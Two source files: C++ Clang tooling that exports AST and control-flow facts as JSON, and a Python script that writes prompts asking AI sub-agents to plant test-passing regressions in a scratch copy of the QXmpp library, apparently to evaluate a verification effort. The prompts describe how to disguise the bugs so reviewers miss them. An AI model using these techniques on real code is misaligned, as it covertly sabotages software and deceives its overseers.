            o["l"] = emitNode(F, D.LHS);
            o["r"] = emitNode(F, D.RHS);
            o["rewritten"] = true;
            if (D.InnerBinOp) {
                int inner = emitNode(F, D.InnerBinOp);
                o["inner"] = inner;
            }
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<BinaryOperator>(S)) {
            if (X->isAssignmentOp()) {
                o["k"] = "assign";
                o["op"] = std::string(X->getOpcodeStr());
                o["l"] = emitNode(F, X->getLHS());
                o["r"] = emitNode(F, X->getRHS());
                return push(F, std::move(o), S);
            }
            o["k"] = "bin";
            o["op"] = std::string(X->getOpcodeStr());
            o["l"] = emitNode(F, X->getLHS());
            o["r"] = emitNode(F, X->getRHS());
            o["tc"] = typeClass(X->getLHS()->getType());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<UnaryOperator>(S)) {
            o["k"] = "un";
            std::string op(UnaryOperator::getOpcodeStr(X->getOpcode()));
            if (X->isPostfix())
                op = "post" + op;
            else if (X->isIncrementDecrementOp())
                op = "pre" + op;
            o["op"] = op;
            o["e"] = emitNode(F, X->getSubExpr());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<AbstractConditionalOperator>(S)) {
            o["k"] = "cond";
            o["c"] = emitNode(F, X->getCond());
            o["a"] = emitNode(F, X->getTrueExpr());
            o["b"] = emitNode(F, X->getFalseExpr());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<ExplicitCastExpr>(S)) {
            o["k"] = "cast";
            o["to"] = typeStr(X->getTypeAsWritten());
            o["tc"] = typeClass(X->getType());
            o["from"] = typeClass(X->getSubExpr()->getType());
            o["e"] = emitNode(F, X->getSubExpr());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<ArraySubscriptExpr>(S)) {
            o["k"] = "index";
            o["base"] = emitNode(F, X->getBase());
            o["idx"] = emitNode(F, X->getIdx());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<InitListExpr>(S)) {
            o["k"] = "initlist";
            o["t"] = typeStr(X->getType());
            json::Array a;
            const InitListExpr *Sem = X->isSemanticForm() ? X : (X->getSemanticForm() ? X->getSemanticForm() : X);
            for (const Expr *I : Sem->inits())
                if (I)
                    a.push_back(emitNode(F, I));
            o["elems"] = std::move(a);
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<UnaryExprOrTypeTraitExpr>(S)) {
            o["k"] = "sizeof";
            if (X->getKind() == UETT_SizeOf) {
                QualType T = X->getTypeOfArgument();
                if (!T->isDependentType() && !T->isIncompleteType())
                    o["v"] = (int64_t)Ctx.getTypeSizeInChars(T).getQuantity();
                o["of"] = typeStr(T);
            }
            return push(F, std::move(o), S);
        }
        // --- statements
        if (const auto *X = dyn_cast<ReturnStmt>(S)) {
            o["k"] = "ret";
            if (X->getRetValue())
                o["e"] = emitNode(F, X->getRetValue());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<DeclStmt>(S)) {
            // CFG hands us single-declaration (possibly synthetic) DeclStmts
            json::Array decls;
            for (const Decl *D : X->decls()) {
                const auto *VD = dyn_cast<VarDecl>(D);
                if (!VD)
                    continue;
                json::Object d;
                d["var"] = varFor(VD->getCanonicalDecl());
                d["name"] = VD->getNameAsString();
                d["t"] = typeStr(VD->getType());
                d["tc"] = typeClass(VD->getType());
                if (VD->getType()->isReferenceType())
                    d["ref"] = true;
                if (VD->getType().getNonReferenceType().isConstQualified())
                    d["const"] = true;
                if (VD->isStaticLocal())
                    d["static"] = true;
                if (VD->isCXXForRangeDecl())
                    d["rangevar"] = true;
                if (VD->isImplicit())
                    d["implicit"] = true;
                if (VD->getInit()) {
                    d["init"] = emitNode(F, VD->getInit());
                    switch (VD->getInitStyle()) {
                    case VarDecl::CInit: d["style"] = "c"; break;
                    case VarDecl::CallInit: d["style"] = "call"; break;
                    case VarDecl::ListInit: d["style"] = "list"; break;
                    }
                }
                if (const auto *DD = dyn_cast<DecompositionDecl>(VD)) {
                    json::Array b;
                    for (const auto *B : DD->bindings()) {
                        json::Object bo;
                        bo["var"] = varFor(B);
                        bo["name"] = B->getNameAsString();
                        b.push_back(std::move(bo));
                    }
                    d["bindings"] = std::move(b);
                }
                decls.push_back(std::move(d));
            }
            o["k"] = "decl";
            o["decls"] = std::move(decls);
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CXXDependentScopeMemberExpr>(S)) {
            o["k"] = "depmem";
            o["name"] = X->getMember().getAsString();
            if (!X->isImplicitAccess() && X->getBase())
                o["base"] = emitNode(F, X->getBase());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<UnresolvedLookupExpr>(S)) {
            o["k"] = "unresolved";
            o["name"] = X->getName().getAsString();
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<RecoveryExpr>(S)) {
            F.degraded = true;
            o["k"] = "recovery";
            o["subs"] = kids(F, X);
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CXXThrowExpr>(S)) {
            o["k"] = "throw";
            if (X->getSubExpr())
                o["e"] = emitNode(F, X->getSubExpr());
            return push(F, std::move(o), S);
        }
        // anything else: keep the class name and the children so nothing is silently lost
        o["k"] = "other";
        o["cls"] = S->getStmtClassName();
        o["subs"] = kids(F, S);
        return push(F, std::move(o), S);
    }

    // ---------------------------------------------------------------- functions
    json::Value labelOf(FnCtx &F, const Stmt *L)
    {
        if (!L)
            return nullptr;
        json::Object o;
        if (const auto *CS = dyn_cast<CaseStmt>(L)) {
            o["k"] = "case";
            const Expr *V = CS->getLHS();
            if (V) {
                Expr::EvalResult R;
                if (V->EvaluateAsInt(R, Ctx))
                    o["v"] = (int64_t)R.Val.getInt().getExtValue();
                const Expr *SV = V->IgnoreImplicit()->IgnoreParenImpCasts();
                if (const auto *CE2 = dyn_cast<ConstantExpr>(SV))
                    SV = CE2->getSubExpr()->IgnoreParenImpCasts();
                if (const auto *DR = dyn_cast_or_null<DeclRefExpr>(SV))
                {
                    if (const auto *EC = dyn_cast<EnumConstantDecl>(DR->getDecl()))
                        o["name"] = EC->getQualifiedNameAsString();
                    else if (const auto *VD = dyn_cast<VarDecl>(DR->getDecl()))
                        o["cvar"] = VD->getNameAsString();      // case STUN_IPV4: a named integral constant
                }
            }
            o["ln"] = (int64_t)lineOf(CS->getBeginLoc());
        } else if (isa<DefaultStmt>(L)) {
            o["k"] = "default";
        } else if (const auto *LS = dyn_cast<LabelStmt>(L)) {
            o["k"] = "label";
            o["name"] = LS->getName();
        } else {
            o["k"] = "other";
        }
        return std::move(o);
    }

    void emitFunction(const FunctionDecl *FD, const FunctionDecl *Parent)
    {
        bool dependent = FD->isDependentContext();
        if (!FD->hasBody() || (dependent && !(Parent && isLambdaOp(FD))))
            return;
        const FunctionDecl *Def = nullptr;
        FD->hasBody(Def);
        if (!Def)
            return;
        FD = Def;
        if (!emitted.insert(FD).second)
            return;
        if (!FD->getBody())
            return;

        FnCtx F;
        F.FD = FD;
        json::Object fo;
        fo["id"] = fnId(FD);
        fo["sym"] = symFor(FD);
        std::string qn = FD->getQualifiedNameAsString();
        fo["qname"] = qn;
        fo["name"] = FD->getNameAsString();
        fo["file"] = fileOf(FD->getBeginLoc());
        fo["line"] = (int64_t)lineOf(FD->getBeginLoc());
        fo["endline"] = (int64_t)lineOf(FD->getEndLoc());
        fo["ret"] = typeStr(FD->getReturnType());
        std::string ta = templArgs(FD);
        if (!ta.empty())
            fo["targs"] = ta;
        if (FD->isTemplateInstantiation())
            fo["tinst"] = true;
        if (dependent)
            fo["dependent"] = true;
        if (Parent) {
            fo["lambda"] = true;
            fo["parent"] = fnId(Parent);
        }
        if (const auto *MD = dyn_cast<CXXMethodDecl>(FD)) {
            fo["record"] = MD->getParent()->getQualifiedNameAsString();
            if (MD->isVirtual()) {
                fo["virtual"] = true;
                json::Array ov;
                for (const auto *O : MD->overridden_methods())
                    ov.push_back(O->getQualifiedNameAsString());
                fo["overrides"] = std::move(ov);
            }
            if (MD->isStatic())
                fo["static"] = true;
        }
        json::Array params;
        for (const auto *P : FD->parameters()) {
            json::Object p;
            p["name"] = P->getNameAsString();
            p["t"] = typeStr(P->getType());
            p["tc"] = typeClass(P->getType());
            p["var"] = varFor(P->getCanonicalDecl());
            params.push_back(std::move(p));
        }
        fo["params"] = std::move(params);

        CFG::BuildOptions BO;
        BO.setAllAlwaysAdd();
        BO.AddInitializers = true;
        BO.AddImplicitDtors = false;
        BO.AddTemporaryDtors = false;
        BO.AddEHEdges = false;
        BO.PruneTriviallyFalseEdges = true;
        std::unique_ptr<CFG> cfg = CFG::buildCFG(FD, FD->getBody(), &Ctx, BO);
        json::Array blocks;
        if (cfg) {
            for (const CFGBlock *B : *cfg) {
                json::Object bo;
                bo["id"] = (int64_t)B->getBlockID();
                json::Array elems;
                std::set<int> seen;
                for (const CFGElement &El : *B) {
                    int nid = -1;
                    if (auto CS = El.getAs<CFGStmt>()) {
                        const Stmt *S = CS->getStmt();
                        nid = emitNode(F, S);
                    } else if (auto CI = El.getAs<CFGInitializer>()) {
                        const CXXCtorInitializer *I = CI->getInitializer();
                        json::Object io;
                        io["k"] = "init";
                        if (I->isAnyMemberInitializer() && I->getAnyMember())
                            io["f"] = I->getAnyMember()->getQualifiedNameAsString();
                        else if (I->isBaseInitializer())
                            io["base"] = typeStr(QualType(I->getBaseClass(), 0));
                        else if (I->isDelegatingInitializer())
                            io["delegating"] = true;
                        if (I->isWritten())
                            io["written"] = true;
                        if (I->getInit())
                            io["e"] = emitNode(F, I->getInit());
                        nid = push(F, std::move(io), I->getInit());
                    }
                    if (nid < 0 || seen.count(nid))
                        continue;
                    seen.insert(nid);
                    // pure leaves are not interesting as CFG positions
                    const json::Object *NO = F.nodes[nid].getAsObject();
                    auto K = NO->getString("k");
                    if (K && (*K == "str" || *K == "int" || *K == "bool" || *K == "null" || *K == "this" ||
                              *K == "enum" || *K == "fnref" || *K == "char" || *K == "float" || *K == "defarg"))
                        continue;
                    elems.push_back(nid);
                }
                bo["elems"] = std::move(elems);
                json::Array succs;
                for (auto SI = B->succ_begin(); SI != B->succ_end(); ++SI) {
                    if (const CFGBlock *SB = SI->getReachableBlock())
                        succs.push_back((int64_t)SB->getBlockID());
                    else
                        succs.push_back(nullptr);
                }
                bo["succs"] = std::move(succs);
                if (B->hasNoReturnElement())
                    bo["noreturn"] = true;
                if (const Stmt *L = B->getLabel())
                    bo["label"] = labelOf(F, L);
                if (const Stmt *T = B->getTerminatorStmt()) {
                    json::Object to;
                    std::string k = "jump";
                    if (isa<IfStmt>(T)) {
                        k = "if";
                        if (cast<IfStmt>(T)->isConstexpr())
                            to["constexpr"] = true;
                    } else if (isa<WhileStmt>(T))
                        k = "while";
                    else if (isa<ForStmt>(T))
                        k = "for";
                    else if (isa<DoStmt>(T))
                        k = "do";
                    else if (const auto *RF = dyn_cast<CXXForRangeStmt>(T)) {
                        k = "rangefor";
                        if (RF->getRangeInit())
                            to["range"] = emitNode(F, RF->getRangeInit());
                        if (RF->getLoopVariable()) {
                            const VarDecl *LV = RF->getLoopVariable();
                            to["loopvar"] = varFor(LV->getCanonicalDecl());
                            to["loopvar_name"] = LV->getNameAsString();
                            to["loopvar_t"] = typeStr(LV->getType());
                            if (const auto *DD = dyn_cast<DecompositionDecl>(LV)) {
                                json::Array b;
                                for (const auto *Bd : DD->bindings())
                                    b.push_back(varFor(Bd));
                                to["bindings"] = std::move(b);
                            }
                        }
                    } else if (const auto *SW = dyn_cast<SwitchStmt>(T)) {
                        k = "switch";
                        std::set<const Stmt *> mine;
                        for (const SwitchCase *SC = SW->getSwitchCaseList(); SC; SC = SC->getNextSwitchCase())
                            mine.insert(SC);
                        json::Array cases;
                        for (auto SI = B->succ_begin(); SI != B->succ_end(); ++SI) {
                            const CFGBlock *SB = SI->getReachableBlock();
                            if (!SB)
                                SB = SI->getPossiblyUnreachableBlock();
                            if (SB && SB->getLabel() && mine.count(SB->getLabel()))
                                cases.push_back(labelOf(F, SB->getLabel()));
                            else
                                cases.push_back("nomatch");
                        }
                        to["cases"] = std::move(cases);
                        if (SW->isAllEnumCasesCovered())
                            to["all_enum_cases"] = true;
                    } else if (const auto *BOp = dyn_cast<BinaryOperator>(T)) {
                        k = std::string(BOp->getOpcodeStr());
                    } else if (isa<AbstractConditionalOperator>(T))
                        k = "?:";
                    else if (isa<BreakStmt>(T))
                        k = "break";
                    else if (isa<ContinueStmt>(T))
                        k = "continue";
                    else if (isa<GotoStmt>(T))
                        k = "goto";
                    else if (isa<CXXTryStmt>(T))
                        k = "try";
                    to["k"] = std::string(k);
                    to["ln"] = (int64_t)lineOf(T->getBeginLoc());
                    if (const Stmt *C = B->getTerminatorCondition())
                        to["cond"] = emitNode(F, C);
                    bo["term"] = std::move(to);
                }
                blocks.push_back(std::move(bo));
            }
            fo["entry"] = (int64_t)cfg->getEntry().getBlockID();
            fo["exit"] = (int64_t)cfg->getExit().getBlockID();
        } else {
            fo["nocfg"] = true;
        }
        // constructor initialisers (direct, independent of the CFG)
        if (const auto *CD = dyn_cast<CXXConstructorDecl>(FD)) {
            json::Array inits;
            for (const auto *I : CD->inits()) {
                if (I->isAnyMemberInitializer() && I->getAnyMember()) {
                    json::Object io;
                    io["f"] = I->getAnyMember()->getQualifiedNameAsString();
                    io["written"] = I->isWritten();
                    if (I->getInit() && isa<CXXDefaultInitExpr>(I->getInit()))
                        io["by_default_member_init"] = true;
                    inits.push_back(std::move(io));
                }
            }
            fo["ctor_inits"] = std::move(inits);
        }
        fo["blocks"] = std::move(blocks);
        fo["nodes"] = std::move(F.nodes);
        if (F.degraded)
            fo["degraded"] = true;
        jFunctions.push_back(std::move(fo));

        while (!lambdaQueue.empty()) {
            auto p = lambdaQueue.front();
            lambdaQueue.pop_front();
            emitFunction(p.first, p.second);
        }
    }

    // ---------------------------------------------------------------- records / enums / tables
    void emitRecord(const CXXRecordDecl *RD)
    {
        if (!RD->isCompleteDefinition() || RD->isDependentContext() || RD->isLambda())
            return;
        if (!emittedDecls.insert(RD).second)
            return;
        json::Object o;
        o["qname"] = RD->getQualifiedNameAsString();
        o["file"] = fileOf(RD->getLocation());
        o["line"] = (int64_t)lineOf(RD->getLocation());
        if (const auto *Spec = dyn_cast<ClassTemplateSpecializationDecl>(RD)) {
            std::string s;
            llvm::raw_string_ostream os(s);
            printTemplateArgumentList(os, Spec->getTemplateArgs().asArray(), PP);
            o["targs"] = os.str();
        }
        json::Array bases;
        for (const auto &B : RD->bases())
            bases.push_back(typeStr(B.getType()));
        o["bases"] = std::move(bases);
        json::Array fields;
        for (const auto *FD : RD->fields()) {
            json::Object f;
            f["name"] = FD->getNameAsString();
            f["qname"] = FD->getQualifiedNameAsString();
            f["t"] = typeStr(FD->getType());
            f["tc"] = typeClass(FD->getType());
            f["line"] = (int64_t)lineOf(FD->getLocation());
            if (FD->hasInClassInitializer())
                f["dmi"] = true;
            fields.push_back(std::move(f));
        }
        o["fields"] = std::move(fields);
        o["aggregate"] = RD->isAggregate();
        o["has_user_ctor"] = RD->hasUserDeclaredConstructor();
        o["has_user_default_ctor"] = RD->hasUserProvidedDefaultConstructor();
        o["trivial_default_ctor"] = RD->hasTrivialDefaultConstructor();
        json::Array ctors;
        for (const auto *CD : RD->ctors()) {
            json::Object c;
            c["usr"] = fnId(CD);
            c["default"] = CD->isDefaultConstructor();
            c["copy_or_move"] = CD->isCopyOrMoveConstructor();
            c["user_provided"] = CD->isUserProvided();
            c["defaulted"] = CD->isDefaulted();
            c["nparams"] = (int64_t)CD->getNumParams();
            ctors.push_back(std::move(c));
        }
        o["ctors"] = std::move(ctors);
        json::Array sigs, methods;
        const auto &S = signalsOf(RD);
        for (const Decl *D : RD->decls()) {
            const Decl *M = D;
            if (const auto *FT = dyn_cast<FunctionTemplateDecl>(D))
                M = FT->getTemplatedDecl();
            if (const auto *MD = dyn_cast<CXXMethodDecl>(M)) {
                if (MD->isImplicit())
                    continue;
                if (S.count(MD->getCanonicalDecl()))
                    sigs.push_back(MD->getNameAsString());
                json::Object m;
                m["name"] = MD->getNameAsString();
                m["virtual"] = MD->isVirtual();
                if (MD->isVirtual()) {
                    json::Array ov;
                    for (const auto *O : MD->overridden_methods())
                        ov.push_back(O->getQualifiedNameAsString());
                    m["overrides"] = std::move(ov);
                }
                json::Array pt;
                for (const auto *P : MD->parameters())
                    pt.push_back(typeStr(P->getType()));
                m["ptypes"] = std::move(pt);
                methods.push_back(std::move(m));
            }
        }
        o["signals"] = std::move(sigs);
        o["methods"] = std::move(methods);
        jRecords.push_back(std::move(o));
    }

    void emitEnum(const EnumDecl *ED)
    {
        if (!ED->isCompleteDefinition())
            return;
        if (!emittedDecls.insert(ED).second)
            return;
        json::Object o;
        o["qname"] = ED->getQualifiedNameAsString();
        o["file"] = fileOf(ED->getLocation());
        o["line"] = (int64_t)lineOf(ED->getLocation());
        o["scoped"] = ED->isScoped();
        o["underlying"] = typeClass(ED->getIntegerType());
        json::Array es;
        for (const auto *EC : ED->enumerators()) {
            json::Object e;
            e["name"] = EC->getNameAsString();
            e["v"] = (int64_t)EC->getInitVal().getExtValue();
            es.push_back(std::move(e));
        }
        o["enumerators"] = std::move(es);
        jEnums.push_back(std::move(o));
    }

    void collectStrings(const Stmt *S, json::Array &out, int depth = 0)
    {
        if (!S || depth > 40)
            return;
        if (const auto *UDL = dyn_cast<UserDefinedLiteral>(S)) {
            if (UDL->getNumArgs() == 0) {
                out.push_back(json::fixUTF8(udlText(UDL)));
                return;
            }
        }
        if (const auto *E = dyn_cast<Expr>(S)) {
            if (const LambdaExpr *LE = asQStringLiteralLambdaCall(stripExpr(E))) {
                const StringLiteral *SL = findStringLiteral(LE->getBody());
                out.push_back(SL ? json::fixUTF8(strValue(SL)) : std::string());
                return;
            }
        }
        if (const auto *SL = dyn_cast<StringLiteral>(S)) {
            out.push_back(json::fixUTF8(strValue(SL)));
            return;
        }
        if (isa<LambdaExpr>(S))
            return;
        for (const Stmt *C : S->children())
            collectStrings(C, out, depth + 1);
    }
    const InitListExpr *findInitList(const Stmt *S, int depth)
    {
        if (!S || depth > 12)
            return nullptr;
        if (const auto *IL = dyn_cast<InitListExpr>(S))
            return IL;
        for (const Stmt *C : S->children())
            if (auto *R = findInitList(C, depth + 1))
                return R;
        return nullptr;
    }
    void collectInts(const Stmt *S, json::Array &out, int depth = 0)
    {
        if (!S || depth > 8)
            return;
        if (const auto *IL = dyn_cast<InitListExpr>(S)) {
            for (const Expr *I : IL->inits()) {
                Expr::EvalResult R;
                if (I && !I->isValueDependent() && I->EvaluateAsInt(R, Ctx))
                    out.push_back((int64_t)R.Val.getInt().getLimitedValue());
                else
                    collectInts(I, out, depth + 1);
            }
            return;
        }
        for (const Stmt *C : S->children())
            collectInts(C, out, depth + 1);
    }

    void emitTable(const VarDecl *VD)
    {
        if (!VD->hasInit() || VD->isLocalVarDecl() == false && !VD->isFileVarDecl() && !VD->isStaticDataMember())
            return;
        if (isa<ParmVarDecl>(VD) || VD->getType()->isDependentType())
            return;
        if (VD->getInit()->isValueDependent())
            return;
        QualType T = VD->getType().getCanonicalType();
        bool arr = T->isArrayType();
        std::string ts = typeStr(VD->getType());
        bool stdarr = ts.find("array<") != std::string::npos || ts.find("QStringView[") != std::string::npos;
        bool isAuto = VD->getType()->getContainedAutoType() != nullptr;
        std::string cts = typeStr(T);
        bool qlist = cts.find("QStringList") != std::string::npos || cts.find("QList<QString>") != std::string::npos ||
            cts.find("QVector<QString>") != std::string::npos;
        if (qlist && !(VD->isFileVarDecl() || VD->isStaticLocal() || VD->isStaticDataMember()))
            return;
        if (!arr && !stdarr && !isAuto && !qlist)
            return;
        if (!arr && !qlist && cts.find("std::array<") == std::string::npos)
            return;
        if (!(VD->isFileVarDecl() || VD->isStaticLocal() || VD->isStaticDataMember() || VD->isConstexpr() ||
              VD->getType().isConstQualified()))
            return;
        if (!emittedDecls.insert(VD->getCanonicalDecl()).second)
            return;
        json::Object o;
        o["qname"] = VD->getQualifiedNameAsString();
        o["name"] = VD->getNameAsString();
        o["var"] = varFor(VD->getCanonicalDecl());
        o["t"] = cts;
        o["file"] = fileOf(VD->getLocation());
        o["line"] = (int64_t)lineOf(VD->getLocation());
        if (const auto *FD = dyn_cast<FunctionDecl>(VD->getDeclContext()))
            o["in_fn"] = fnId(FD);
        if (const auto *CAT = Ctx.getAsConstantArrayType(T))
            o["n"] = (int64_t)CAT->getSize().getLimitedValue();
        else {
            // std::array<T, N>
            if (const auto *RT = T->getAs<RecordType>())
                if (const auto *Spec = dyn_cast<ClassTemplateSpecializationDecl>(RT->getDecl()))
                    if (Spec->getTemplateArgs().size() == 2 &&
                        Spec->getTemplateArgs()[1].getKind() == TemplateArgument::Integral)
                        o["n"] = (int64_t)Spec->getTemplateArgs()[1].getAsIntegral().getLimitedValue();
        }
        json::Array strs, ints;
        collectStrings(VD->getInit(), strs);
        if (qlist) {
            const InitListExpr *IL = findInitList(VD->getInit(), 0);
            if (!IL)
                return;
            o["n"] = (int64_t)IL->getNumInits();
            o["qlist"] = true;
        }
        if (strs.empty())
            collectInts(VD->getInit(), ints);
        o["strs"] = std::move(strs);
        if (!ints.empty())
            o["ints"] = std::move(ints);
        jTables.push_back(std::move(o));
    }
};

class Visitor : public RecursiveASTVisitor<Visitor> {
public:
    Extractor &X;
    explicit Visitor(Extractor &E) : X(E) { }
    bool shouldVisitTemplateInstantiations() const { return true; }
    bool shouldVisitImplicitCode() const { return false; }

    bool VisitFunctionDecl(FunctionDecl *FD)
    {
        if (!FD->doesThisDeclarationHaveABody() || FD->isDependentContext())
            return true;
        if (Extractor::isLambdaOp(FD))
            return true;
        if (!X.inRoot(FD->getLocation()))
            return true;
        X.emitFunction(FD, nullptr);
        return true;
    }
    bool VisitCXXRecordDecl(CXXRecordDecl *RD)
    {
        if (RD->isThisDeclarationADefinition() && X.inRoot(RD->getLocation()))
            X.emitRecord(RD);
        return true;
    }
    bool VisitEnumDecl(EnumDecl *ED)
    {
        if (X.inRoot(ED->getLocation()))
            X.emitEnum(ED);
        return true;
    }
    bool VisitVarDecl(VarDecl *VD)
    {
        if (X.inRoot(VD->getLocation()))
            X.emitTable(VD);
        return true;
    }
};

class Consumer : public ASTConsumer {
public:
    std::string mainFile;
    void HandleTranslationUnit(ASTContext &Ctx) override
    {
        Extractor X(Ctx);
        Visitor V(X);
        V.TraverseDecl(Ctx.getTranslationUnitDecl());
        json::Object root;
        root["unit"] = mainFile;
        root["functions"] = std::move(X.jFunctions);
        root["records"] = std::move(X.jRecords);
        root["enums"] = std::move(X.jEnums);
        root["tables"] = std::move(X.jTables);
        root["syms"] = std::move(X.jSyms);
        json::Array diags;
        if (gDiag)
            for (auto &d : gDiag->errs) {
                json::Object o;
                o["file"] = d.file;
                o["line"] = (int64_t)d.line;
                o["msg"] = d.msg;
                diags.push_back(std::move(o));
            }
        root["diags"] = std::move(diags);
        std::error_code EC;
        llvm::raw_fd_ostream os(gOut, EC);
        if (EC) {
            llvm::errs() << "qxv: cannot write " << gOut << ": " << EC.message() << "\n";
            return;
        }
        os << json::Value(std::move(root));
        os << "\n";
    }
};

class Action : public ASTFrontendAction {
public:
    std::unique_ptr<ASTConsumer> CreateASTConsumer(CompilerInstance &CI, llvm::StringRef File) override
    {
        auto C = std::make_unique<Consumer>();
        C->mainFile = std::string(File);
        return C;
    }
};

class Factory : public tooling::FrontendActionFactory {
public:
    std::unique_ptr<FrontendAction> create() override { return std::make_unique<Action>(); }
};

}  // namespace

int main(int argc, const char **argv)
{
    std::vector<std::string> args;
    std::string file;
    int i = 1;
    for (; i < argc; i++) {
        std::string a = argv[i];
        if (a == "--out" && i + 1 < argc)
            gOut = argv[++i];
        else if (a == "--root" && i + 1 < argc)
            gRoot = argv[++i];
        else if (a == "--extra-root" && i + 1 < argc)
            gExtraRoots.push_back(argv[++i]);
        else if (a == "--") {
            i++;
            break;
        } else {
            llvm::errs() << "qxv: unknown option " << a << "\n";
            return 2;
        }
    }
    for (; i < argc; i++)
        args.push_back(argv[i]);
    if (args.empty() || gOut.empty()) {
        llvm::errs() << "usage: qxv --out FILE [--root DIR] -- <clang args> file.cpp\n";
        return 2;
    }
    file = args.back();
    args.pop_back();
    tooling::FixedCompilationDatabase DB(".", args);
    tooling::ClangTool Tool(DB, { file });
    DiagCollector DC;
    gDiag = &DC;
    Tool.setDiagnosticConsumer(&DC);
    Factory F;
    int rc = Tool.run(&F);
    // rc != 0 when errors were emitted; facts (with diags) are still written when the AST was built
    (void)rc;
    return 0;
}
