#!/usr/bin/env python3
"""print the prompt for a seeded-change sub-agent: tool/seed_prompt.py C07 /tmp/seed/C07 [round]
(round 2 asks for three changes A, B, C with a diversity requirement; round 3 for three changes made in the roles optimiser / feature author / cleaner)"""
import json
import sys

pid, wt = sys.argv[1], sys.argv[2]
rnd = int(sys.argv[3]) if len(sys.argv) > 3 else 1
prop = [json.loads(l) for l in open('/verif/properties.jsonl') if json.loads(l)['id'] == pid][0]
text = ('''You are helping to evaluate a verification effort for the C++/Qt library QXmpp by playing the role of a developer who
introduces a realistic regression. You work ONLY inside your own scratch git worktree of the library at

    %(wt)s        (already configured and fully built in %(wt)s/_build with Ninja; Qt 5, no network)

Do not read, write or run anything under /repo or /verif, and do not commit anything.

The semantic property of the library you must break:

%(prop)s

Task: produce TWO independent source changes (call them A and B) to the library sources under %(wt)s/src, each of which
 1. breaks this property (for change B pick a different mechanism / code site than for A where possible),
 2. still compiles and still passes the existing test suite unchanged
    (ninja -C %(wt)s/_build && ctest --test-dir %(wt)s/_build -j4 --timeout 900 ;
     tst_qxmppiceconnection always fails here because there is no network -- ignore it; tst_qxmppserver and
     tst_qxmpptransfermanager use fixed local ports and can fail when another job runs them at the same moment:
     re-run such a test alone with ctest -R <name> before concluding anything),
 3. is realistic: something a maintainer could plausibly write in a refactoring, an optimisation, a feature addition
    or a careless bug fix -- not sabotage guarded by a magic constant, not a comment, not dead code,
 4. needs something specific to manifest (a particular input, ordering, schedule or history), so that the existing
    tests do not notice it,
 5. comes with a demonstration: a small self-contained C++ program (or QtTest) that links against the built library
    (%(wt)s/_build/src/libQXmppQt5.so, headers in %(wt)s/src/base, src/client, src/server and %(wt)s/_build/src;
    tests/util.h, tests/TestClient.h and tests/IntegrationTesting.h may be used) and shows the property violated with the change
    and holding without it. Build and run it yourself both ways and record the output.
Do not edit anything under %(wt)s/tests. Keep each change small (ideally 1-15 changed lines) and in library code.

Deliverables, all under %(wt)s/_seed/ (create it):
  A/patch.diff   (output of `git -C %(wt)s diff -- src` with only change A applied)
  A/demo.cpp     (plus A/build.sh with the exact compile+run command line)
  A/meta.json    {"property": "%(pid)s", "summary": "...", "files": [...], "trigger": "what specific input/schedule/history is needed",
                  "demo_output_with_change": "...", "demo_output_without_change": "...", "tests": "what you ran and the result"}
  B/...          the same for change B
When you are done, restore the worktree sources (git -C %(wt)s checkout -- src) so that only _seed/ remains as untracked output.
In your final answer, summarise A and B in a few lines each (what was changed, where, what triggers it). If you could only
produce one convincing change, deliver one and say so.''' % {'wt': wt, 'pid': pid, 'prop': json.dumps({k: prop[k] for k in ('id', 'title', 'statement', 'quantifier', 'why_tests_cant', 'anchors')}, indent=1)})
if rnd == 2:
    text = text.replace('produce TWO independent source changes (call them A and B)', 'produce THREE independent source changes (call them A, B and C)')
    text = text.replace('(for change B pick a different mechanism / code site than for A where possible)', '(each at a different code site and through a different mechanism: at most one of the three may be a weakened or dropped condition in the primary handler; at least one must sit in a helper, a secondary path, an error path or a less obvious collaborator of the mechanism, and at least one must be a data-flow, ordering or state-lifetime change - a value taken from the wrong place, something done in the wrong order, state kept or reset at the wrong moment - rather than a changed condition)')
    text = text.replace('  B/...          the same for change B', '  B/..., C/...   the same for changes B and C')
    text = text.replace('summarise A and B', 'summarise A, B and C')
    text = text.replace('If you could only\nproduce one convincing change, deliver one and say so.', 'If you could only produce fewer convincing changes, deliver those and say so.')
if rnd == 3:
    text = text.replace('produce TWO independent source changes (call them A and B)', 'produce THREE independent source changes (call them A, B and C)')
    text = text.replace('(for change B pick a different mechanism / code site than for A where possible)', '(write them as three different developers would: A is the slip of someone OPTIMISING - caching a value, skipping work that "cannot be needed", reusing a buffer or object, short-cutting a loop; B is the slip of someone ADDING A FEATURE or handling a new edge case - a new branch, option, default or fallback that interacts badly with the existing mechanism; C is the slip of someone CLEANING UP - extracting or inlining a helper, replacing a loop by an algorithm, changing a container, type or API, reordering or merging statements - where the rewritten code is almost, but not quite, equivalent. None of the three may be just a deleted or negated check in the function a reviewer would look at first: prefer initialisation, cleanup and reset code, copy/assignment, default values, the choice of data structure or key, collaborators and callers of the mechanism, inline functions in headers, or a sibling implementation of the same interface)')
    text = text.replace('  B/...          the same for change B', '  B/..., C/...   the same for changes B and C')
    text = text.replace('summarise A and B', 'summarise A, B and C')
    text = text.replace('If you could only\nproduce one convincing change, deliver one and say so.', 'If you could only produce fewer convincing changes, deliver those and say so.')
if rnd == 4:
    text = text.replace('produce TWO independent source changes (call them A and B)', 'produce THREE independent source changes (call them A, B and C)')
    text = text.replace('(for change B pick a different mechanism / code site than for A where possible)', '(each of a different nature: A is made OUTSIDE the code of the mechanism itself - in a shared utility, a base class, a data class (constructor, default value, operator==, copy/move, accessor), a configuration object or another component the mechanism relies on - by someone who changes it for a reason that has nothing to do with this mechanism; B changes an ORDER or a MOMENT - when a signal is emitted relative to a state update, when something is stored, cleared, connected, disconnected or deleted, direct versus queued or deferred execution, what happens when a callback re-enters the mechanism; C changes the handling of a BOUNDARY value - empty, zero, maximum, duplicate, missing, differently-cased, whitespace, non-ASCII or very long input - in a way that looks like a reasonable tightening, normalisation or leniency. None of the three may be just a deleted or negated check in the function a reviewer would look at first)')
